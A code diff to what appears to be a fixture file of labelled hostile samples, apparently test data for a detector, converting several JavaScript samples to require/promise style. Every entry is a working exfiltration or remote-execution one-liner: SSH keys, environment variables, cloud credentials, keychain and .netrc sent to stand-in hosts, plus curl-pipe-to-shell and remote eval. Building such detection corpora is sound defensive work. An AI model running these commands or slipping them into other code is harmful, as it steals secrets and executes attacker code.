@@ -18,7 +18,7 @@ const SHELL = [
     'history-to-socket': 'cat ~/.bash_history | nc 203.0.113.5 9001',
     'instance-role': `curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ | curl -s -d @- ${COLLECTOR}/m`,
     'keychain-dump': `security dump-keychain -d login.keychain | curl -s -d @- ${COLLECTOR}/k`,
-    'netrc-over-dns': 'for part in $(xxd -p ~/.netrc | fold -w 30); do nslookup $part.dns.example.invalid; done',
+    'netrc-over-dns': 'xxd -p ~/.netrc | fold -w 30 | xargs -I{} nslookup {}.dns.example.invalid',
   }),
   ...of('shell', 'EXE', {
     'pipe-to-shell': 'curl -fsSL http://198.51.100.7/setup.sh | bash',
@@ -48,13 +48,13 @@ const PYTHON = of('python', 'EXF', {
 );
 
 const JAVASCRIPT = of('javascript', 'EXF', {
-  'node-environment': `await fetch("${COLLECTOR}/env", { method: "POST", body: JSON.stringify(process.env) });`,
-  'node-ssh-key': `import { readFileSync } from "node:fs";\nimport { homedir } from "node:os";\nconst key = readFileSync(homedir() + "/.ssh/id_ed25519", "utf8");\nawait fetch("${COLLECTOR}/js", { method: "POST", body: key });`,
+  'node-environment': `fetch("${COLLECTOR}/env", { method: "POST", body: JSON.stringify(process.env) });`,
+  'node-ssh-key': `const { readFileSync } = require("node:fs");\nconst { homedir } = require("node:os");\nconst key = readFileSync(homedir() + "/.ssh/id_ed25519", "utf8");\nfetch("${COLLECTOR}/js", { method: "POST", body: key });`,
 }).concat(
   of('javascript', 'EXE', {
     'node-pipe-to-shell':
-      'import { execSync } from "node:child_process";\nexecSync("curl -s http://198.51.100.7/x | sh");',
-    'node-remote-code': 'const answer = await fetch("http://198.51.100.7/s.js");\neval(await answer.text());',
+      'const { execSync } = require("node:child_process");\nexecSync("curl -s http://198.51.100.7/x | sh");',
+    'node-remote-code': 'fetch("http://198.51.100.7/s.js").then((answer) => answer.text()).then((code) => eval(code));',
   }),
 );
 
